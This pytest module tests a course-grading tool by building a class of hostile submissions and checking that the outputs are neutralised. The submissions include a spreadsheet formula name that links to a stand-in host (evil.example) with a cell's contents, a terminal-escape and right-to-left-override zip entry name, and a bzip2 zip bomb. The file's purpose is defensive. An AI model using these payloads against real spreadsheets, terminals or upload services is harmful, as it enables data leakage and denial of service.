"""A class holding every hazard an instructor or a red team found (issue 34), graded in one run: exit 0, a row for
every student, no terminal escape or live formula in any output, and each student's feedback in a file of their own.

The run is a real process (``python -m attnpos``) with a UTF-8 stdout, since only a process shows what a file
name that is not UTF-8 does to it; it runs once for the module and each test reads what it wrote.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
import xmlschema

from attnpos.lessons.course.loader import load_course
from attnpos.lessons.grading.grades import MAX_SUBMISSION_BYTES, course_order

SCHEMAS = Path(__file__).parent / "schemas"
COURSE = load_course()
IDS = course_order(COURSE)
# What no output may carry raw: ESC (OSC 52, titles, clear screen), BEL, a C1 CSI, a right-to-left override.
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")
ESCAPED_ENTRY = "hal\x1b]52;c;aGk=\x07\u202eevil\x9b_rope.py"


def solution(exercise_id: str) -> str:
    return COURSE.exercises[exercise_id].solution


def patched_zip(entries: dict[str, str], flag: int = 0, method: int | None = None) -> bytes:
    """A zip whose every entry carries a general-purpose ``flag`` (1: encrypted) or a compression ``method`` (9: Deflate64),
    set in both its local and its central headers, as Windows or a password tool would write them."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    data = bytearray(buffer.getvalue())
    for signature, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        at = data.find(signature)
        while at != -1:
            data[at + flag_at] |= flag
            if method is not None:
                data[at + method_at : at + method_at + 2] = method.to_bytes(2, "little")
            at = data.find(signature, at + 4)
    return bytes(data)


def surrogate_on_rerun() -> str:
    """constant-offset's solution whose rerun (another perm) raises an exception carrying a lone surrogate."""
    source = solution("constant-offset")
    line = "perm = np.array([3, 0, 5, 1, 4, 2])\n"
    assert line in source
    return source.replace(line, line + 'if int(perm[0]) != 3:\n    raise ValueError("bad \\ud800 value")\n')


def build_class(root: Path) -> dict[str, str]:
    """Every hazard, a student each; returns student (as the reports show the name) -> what their row is about."""
    root.mkdir()

    def folder(name: str | bytes, files: dict[str | bytes, str]) -> None:
        path = os.path.join(os.fsencode(root), os.fsencode(name))
        os.mkdir(path)
        for file, text in files.items():
            with open(os.path.join(path, os.fsencode(file)), "w", encoding="utf-8") as handle:
                handle.write(text)

    folder("ada", {"constant-offset.py": "\ufeff" + solution("constant-offset")})  # a BOM, as Windows editors write
    folder("bo", {"property_notes.py": "x = 1\n", "rope.py": solution("rope"), "rope_old.py": "x = 1\n"})
    (root / "cy.zip").write_bytes(patched_zip({"rope.py": solution("rope")}, flag=1))  # a password
    (root / "dan.zip").write_bytes(patched_zip({"rope.py": solution("rope")}, method=9))  # Deflate64
    (root / "eve_12345_67890_constant-offset.py").write_text(solution("constant-offset"))  # Canvas's layout
    folder("fay", {"constant-offset.py": surrogate_on_rerun()})
    folder(b"gus\xff", {b"notes\xfe.py": "x = 1\n", "rope.py": solution("rope")})  # not UTF-8
    folder('=HYPERLINK("evil.example?"&A1)', {"rope.py": "x = 1\n"})
    folder("@SUM(1+1)", {"-2+3.py": "x = 1\n"})
    with zipfile.ZipFile(root / "hal.zip", "w") as archive:
        archive.writestr(ESCAPED_ENTRY, "x = 1\n")
    huge = "1" * 4301
    folder("ian", {"progress.json": f'{{"version": {huge}}}', "attnpos-manifest.toml": f"[files]\nrope = {huge}\n", "rope.py": solution("rope")})
    with zipfile.ZipFile(root / "jo.zip", "w", compression=zipfile.ZIP_BZIP2) as archive:
        block = json.dumps([0] * (1 << 19))[: 1 << 20]  # 1 MiB of JSON list a bzip2 entry shrinks to a few hundred bytes
        for n in range(2 * MAX_SUBMISSION_BYTES // len(block) + 4):
            archive.writestr(f"progress-{n}.json", block)
    (root / "kim.zip").write_bytes(b"PK\x03\x04 this is not a zip")
    folder("lee", {"rope.py": solution("rope")})
    with zipfile.ZipFile(root / "lee.zip", "w") as archive:
        archive.writestr("rope.py", "x = 1\n")
    folder("max", {"attnpos-manifest.toml": '[files]\nno-such-exercise = "a.py"\nrope = "mine.py"\n', "mine.py": solution("rope")})
    return {
        "ada": "a BOM",
        "bo": "property_notes.py beside rope.py",
        "cy": "a password zip",
        "dan": "a Deflate64 zip",
        "eve": "a loose Canvas file",
        "fay": "a surrogate message",
        "gus\\xff": "an undecodable name",
        '=HYPERLINK("evil.example?"&A1)': "a formula name",
        "@SUM(1+1)": "a formula name",
        "hal": "escapes in an entry name",
        "ian": "a huge integer",
        "jo": "a bzip2 bomb",
        "kim": "a corrupt zip",
        "lee": "lee/ beside lee.zip",
        "max": "a manifest naming an unknown exercise",
    }


@dataclass(frozen=True)
class Graded:
    students: dict[str, str]
    code: int
    stderr: str
    stdout: bytes
    csv: bytes
    table: bytes
    files: dict[str, bytes]  # name under the output folder -> bytes

    def report(self) -> dict:
        return json.loads(self.stdout.decode("utf-8"))

    def rows(self) -> dict[str, dict]:
        return {s["student"]: s for s in self.report()["students"]}


def run_attnpos(*args: str, cwd: str | bytes | None = None) -> subprocess.CompletedProcess:
    environment = {**os.environ, "PYTHONIOENCODING": "utf-8", "COLUMNS": "200"}
    return subprocess.run([sys.executable, "-m", "attnpos", *args], capture_output=True, timeout=900, env=environment, cwd=cwd)


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Graded:
    base = tmp_path_factory.mktemp("hazards")
    students = build_class(base / "class")
    out = base / "out"
    outputs = ["--gradebook", str(out / "book.csv"), "--junit", str(out / "junit.xml"), "--markdown", str(out / "report.md")]
    main = run_attnpos("grade-class", str(base / "class"), "--json", "--feedback", str(out / "feedback"), *outputs)
    as_csv = run_attnpos("grade-class", str(base / "class"), "--csv")
    table = run_attnpos("grade-class", str(base / "class"))
    for run in (as_csv, table):
        assert run.returncode == 0, run.stderr.decode(errors="replace")
    files = {str(p.relative_to(out)): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    return Graded(students, main.returncode, main.stderr.decode(errors="replace"), main.stdout, as_csv.stdout, table.stdout, files)


def test_every_hazard_is_graded_in_one_run_with_a_row_for_every_student(graded):
    assert graded.code == 0, graded.stderr
    rows = graded.rows()
    assert set(rows) == set(graded.students)
    assert all([e["exercise"] for e in row["exercises"]] == IDS for row in rows.values())
    assert list(rows) == [*(name for name in graded.students if name[0] in "=@"), *(name for name in graded.students if name[0] not in "=@")]


def test_students_sort_naturally_and_columns_follow_the_course():
    from attnpos.lessons.grading.grades import natural_key

    names = ["s10", "Zoë Ødegård", "s9", "ada", "O'Brien, Liam", "José María Núñez", "Émile"]
    assert sorted(names, key=natural_key) == ["ada", "Émile", "José María Núñez", "O'Brien, Liam", "s9", "s10", "Zoë Ødegård"]
    placed = [exercise_id for lesson in COURSE.lessons for exercise_id in lesson.exercise_ids]
    assert IDS[: len(placed)] == placed and sorted(IDS) == sorted(COURSE.exercises)


def by_exercise(row: dict) -> dict[str, dict]:
    return {e["exercise"]: e for e in row["exercises"]}


def unmatched(row: dict) -> dict[str, str]:
    return {u["file"]: u["reason"] for u in row["unmatched"]}


def test_each_students_problem_is_told_in_their_own_row(graded):
    rows = graded.rows()
    bo = rows["bo"]
    assert by_exercise(bo)["rope"]["file"] == "rope.py" and by_exercise(bo)["rope"]["passed"]
    assert unmatched(bo)["property_notes.py"] == "its name holds no exercise id"
    assert unmatched(bo)["rope_old.py"].startswith("also names rope; rope.py is graded")
    assert "encrypted" in by_exercise(rows["cy"])["rope"]["message"] and by_exercise(rows["cy"])["rope"]["diagnosis"] == "unreadable"
    assert "compression method" in by_exercise(rows["dan"])["rope"]["message"]
    assert by_exercise(rows["eve"])["constant-offset"]["passed"]
    fay = by_exercise(rows["fay"])["constant-offset"]
    assert not fay["passed"] and "\\ud800" in fay["message"] and "ValueError" in fay["message"]
    gus = rows["gus\\xff"]
    assert by_exercise(gus)["rope"]["passed"] and "notes\\xfe.py" in unmatched(gus)
    assert "not a progress export" in unmatched(rows["ian"])["progress.json"]
    assert "cannot be read" in unmatched(rows["ian"])["attnpos-manifest.toml"] and by_exercise(rows["ian"])["rope"]["passed"]
    assert any("what one submission may cost" in reason for reason in unmatched(rows["jo"]).values())
    assert "not a readable zip file" in by_exercise(rows["kim"])["rope"]["message"]
    lee = by_exercise(rows["lee"])["rope"]
    assert lee["diagnosis"] == "unreadable" and "two submissions for lee: lee and lee.zip" in lee["message"]
    assert "no-such-exercise" in unmatched(rows["max"])["attnpos-manifest.toml"] and by_exercise(rows["max"])["rope"]["passed"]


def test_a_bom_answer_in_the_hazard_class_passes(graded):
    assert by_exercise(graded.rows()["ada"])["constant-offset"]["passed"]


def test_no_output_carries_a_raw_control_and_every_one_is_utf_8(graded):
    outputs = {"json": graded.stdout, "csv": graded.csv, "table": graded.table, **graded.files}
    for name, data in outputs.items():
        text = data.decode("utf-8")  # strict: a surrogate would not have been written
        assert not [c for c in RAW_CONTROLS if c in text], name
    assert by_exercise(graded.rows()["hal"])["rope"]["file"] == "hal\\x1b]52;c;aGk=\\x07\\u202eevil\\x9b_rope.py"
    xmlschema.XMLSchema(SCHEMAS / "junit.xsd").validate(io.BytesIO(graded.files["junit.xml"]))


def test_spreadsheets_get_no_live_formula(graded):
    for data in (graded.files["book.csv"], graded.csv):
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
        assert '\'=HYPERLINK("evil.example?"&A1)' in cells and "'@SUM(1+1)" in cells
    assert "'-2+3.py" in [row[2] for row in csv.reader(io.StringIO(graded.csv.decode("utf-8")))]


def test_feedback_is_a_markdown_and_an_html_file_per_student_each_about_that_student_only(graded):
    feedback = {name.removeprefix("feedback/"): data.decode("utf-8") for name, data in graded.files.items() if name.startswith("feedback/")}
    assert len(feedback) == 2 * len(graded.students)
    bo = feedback["bo.md"]
    assert "feedback for bo" in bo and "passed" in bo and "rope_old.py" in bo
    others = [name for name in graded.students if name not in ("bo",) and len(name) > 3]
    assert not [name for name in others if name in bo]
    assert "<h1>" in feedback["bo.html"] and "&lt;" not in feedback["bo.html"].split("<body>")[0]
    fay = feedback["fay.md"]
    assert "ValueError" in fay and "\\ud800" in fay


def test_error_rows_keep_pythons_message_in_every_format(graded, tmp_path):
    rows = [row for row in csv.reader(io.StringIO(graded.csv.decode("utf-8"))) if row[:2] == ["fay", "constant-offset"]]
    assert "ValueError" in rows[0][-1]
    assert "ValueError" in graded.files["junit.xml"].decode("utf-8")
    fay = tmp_path / "fay"
    fay.mkdir()
    (fay / "constant-offset.py").write_text(surrogate_on_rerun())
    run = run_attnpos("grade-class", str(fay), "--single", "--gradescope", str(tmp_path / "results.json"))
    assert run.returncode == 0, run.stderr
    tests = {t["name"]: t for t in json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))["tests"]}
    assert "ValueError" in tests["constant-offset"]["output"] and "\\ud800" in tests["constant-offset"]["output"]


def test_grade_prints_a_surrogate_message_and_an_undecodable_name_escaped(tmp_path):
    folder = os.path.join(os.fsencode(tmp_path), b"n\xffame")
    os.mkdir(folder)
    with open(os.path.join(folder, b"=fay.py"), "w", encoding="utf-8") as handle:
        handle.write(surrogate_on_rerun())
    # The CSV run also names the file from its folder, "=fay.py": a cell a spreadsheet would read as a formula.
    for fmt, also in (("--csv", ["=fay.py"]), ("--json", [])):
        run = run_attnpos("grade", "constant-offset", os.fsdecode(folder), *also, fmt, cwd=folder)
        assert run.returncode == 0, run.stderr
        text = run.stdout.decode("utf-8")
        if fmt == "--csv":
            rows = list(csv.reader(io.StringIO(text)))
            assert rows[2][0] == "'=fay.py"
            text = rows[1][0] + rows[1][3]
        else:
            (row,) = json.loads(text)["results"]
            text = row["file"] + row["message"]
        assert "n\\xffame" in text and "\\ud800" in text
